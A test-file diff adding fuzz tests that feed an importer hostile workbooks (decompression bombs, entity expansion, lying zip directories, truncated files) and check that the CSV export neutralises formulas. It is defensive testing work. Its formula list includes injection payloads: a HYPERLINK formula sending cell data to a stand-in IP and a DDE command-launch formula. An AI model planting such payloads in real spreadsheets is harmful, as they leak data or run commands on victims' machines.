@@ -77,3 +77,149 @@ def test_random_bytes_under_any_table_name_are_a_report_with_problems_not_a_cras
         path = Path(tmp) / f"upload{suffix}"
         path.write_bytes(blob)
         _check(importer.validate(path))
+
+
+# --- hostile workbooks ------------------------------------------------------------------------
+# Bombs, a lying zip directory, no worksheet, broken XML, formulas (cells and cached values),
+# huge cells and far rows, written part by part (tests/hostile_workbooks.py). Each must be a
+# clear error (one "file:line: …" line, nothing stored) or a correct import (every case stored,
+# the CSV export inert, the JSONL export exact). bench/fuzz.py runs this family long.
+
+import collections  # noqa: E402
+import csv  # noqa: E402
+import json  # noqa: E402
+
+import hostile_workbooks as hw  # noqa: E402
+
+from assistant.exporter import export_store  # noqa: E402
+from data.decoding import MAX_CELL_BYTES  # noqa: E402
+
+HOSTILE_CASES: collections.Counter[str] = collections.Counter()  # kind -> workbooks tried
+FORMULAS = st.sampled_from(
+    ['=HYPERLINK("http://203.0.113.9/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
+)
+FORMULA_CELL = st.builds(
+    lambda pad, f, tail: pad + f + tail, st.sampled_from(["", " ", "\u3000 "]), FORMULAS, CELL_TEXT
+)
+MB = 1024 * 1024
+
+
+@st.composite
+def hostile_workbooks(draw) -> tuple[str, object, str]:
+    """(kind, builder of the workbook at a path, what must happen: "refused", "imported", or "cell":
+    refused for a cell over the limit)."""
+    kind = draw(
+        st.sampled_from(
+            [
+                "shared_string_bomb",
+                "whitespace_bomb",
+                "lying_directory",
+                "no_sheet",
+                "missing_shared_string",
+                "entity_expansion",
+                "cut_sheet",
+                "truncated_zip",
+                "formula_cells",
+                "cached_formula",
+                "far_rows",
+                "huge_cell",
+            ]
+        )
+    )
+    if kind == "shared_string_bomb":
+        size = draw(st.integers(MB + 1, 2 * MB))
+        return kind, lambda p: hw.shared_string_bomb(p, size), "refused"
+    if kind == "whitespace_bomb":
+        size = draw(st.integers(MB + 1, 2 * MB))
+        return kind, lambda p: hw.whitespace_bomb(p, size), "refused"
+    if kind == "lying_directory":
+        claimed = draw(st.integers(50 * MB + 1, 2**32 - 1))
+        return kind, lambda p: hw.lying_directory_workbook(p, claimed), "refused"
+    if kind == "no_sheet":
+        return kind, hw.no_sheet_workbook, "refused"
+    if kind == "missing_shared_string":
+        return kind, hw.missing_shared_string_workbook, "refused"
+    if kind == "entity_expansion":
+        levels = draw(st.integers(3, 9))
+        return kind, lambda p: hw.entity_expansion_workbook(p, levels), "refused"
+    rows = draw(
+        st.lists(st.tuples(st.just("R5"), FORMULA_CELL | CELL_TEXT, CELL_TEXT, CELL_TEXT), min_size=1, max_size=5)
+    )
+    if kind == "cut_sheet":
+        keep = draw(st.floats(0.05, 0.95))
+        return kind, lambda p: hw.cut_sheet_workbook(p, rows, keep), "refused"
+    if kind == "truncated_zip":
+        keep = draw(st.floats(0.0, 0.98))
+
+        def truncated(path: Path) -> Path:
+            hw.table_workbook(path, rows)
+            data = path.read_bytes()
+            path.write_bytes(data[: int(len(data) * keep)])
+            return path
+
+        return kind, truncated, "refused"
+    if kind == "formula_cells":
+        formulas = draw(
+            st.lists(st.tuples(FORMULA_CELL, FORMULA_CELL, FORMULA_CELL, FORMULA_CELL), min_size=1, max_size=4)
+        )
+        # Descriptions need a letter after the formula so they stay non-empty once cleaned.
+        table = [(f"{i}{a}", "R5", f"{b} 事案{i}", c, d) for i, (a, b, c, d) in enumerate(formulas)]
+        return kind, lambda p: hw.table_workbook(p, table, header=("id", *hw.HEADER)), "imported"
+    if kind == "cached_formula":
+        cached = draw(FORMULA_CELL)
+        return kind, lambda p: hw.cached_formula_workbook(p, cached.strip() + " 事案"), "imported"
+    if kind == "far_rows":
+        first = draw(st.integers(3, 1_048_000))
+
+        def far(path: Path) -> Path:
+            body = hw.rows_xml([hw.HEADER, ("R5", "住民票を誤交付した", "", "")])
+            body += hw.rows_xml([("R6", "遠い行の事案", "", "")], first_row=first)
+            return hw.write_workbook(path, hw.sheet_xml(body))
+
+        return kind, far, "imported"
+    size = draw(st.integers(MAX_CELL_BYTES - 64, MAX_CELL_BYTES + 64))
+    text = b"".join(hw.random_text(size)).decode()
+    # Random letters and digits: one byte each, so `size` is the cell's size in UTF-8.
+    return (
+        kind,
+        lambda p: hw.table_workbook(p, [("R5", text, "", "")]),
+        "imported" if size <= MAX_CELL_BYTES else "cell",
+    )
+
+
+def _csv_cells(path: Path) -> list[str]:
+    csv.field_size_limit(max(csv.field_size_limit(), 2 * MAX_CELL_BYTES))
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return [cell for row in csv.reader(handle) for cell in row]
+
+
+@FUZZ
+@given(case=hostile_workbooks())
+def test_hostile_workbooks_are_refused_in_one_line_or_imported_whole(case):
+    kind, build, expected = case
+    HOSTILE_CASES[kind] += 1
+    with tempfile.TemporaryDirectory() as tmp:
+        path = build(Path(tmp) / f"{kind}.xlsx")
+        report = importer.validate(path)
+        _check(report)
+        assert all("\n" not in problem for problem in report.problems), report.problems
+        if expected == "cell":  # over the cell limit: refused on its row
+            assert report.problems == (f"{path}:2: セルが大きすぎます (cell larger than 1 MB)",)
+            expected = "refused"
+        assert bool(report.problems) == (expected == "refused"), (kind, report.problems)
+        with Store(Path(tmp) / "store.sqlite3") as store:
+            try:
+                stored = importer.commit(report, store)
+            except StoreError:
+                assert expected == "refused" and store.incidents() == ()  # nothing half-stored
+                return
+            assert stored == len(report.incidents) == len(store.incidents())
+            export_store(store, Path(tmp) / "out")
+            exported = [
+                json.loads(line) for line in (Path(tmp) / "out" / "store.jsonl").read_text("utf-8").splitlines()
+            ]
+            assert [r["description"] for r in exported] == [i.description for i in store.incidents()]
+        for cell in _csv_cells(Path(tmp) / "out" / "store.csv"):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not cell.lstrip().startswith(
+                ("=", "+", "@")
+            )
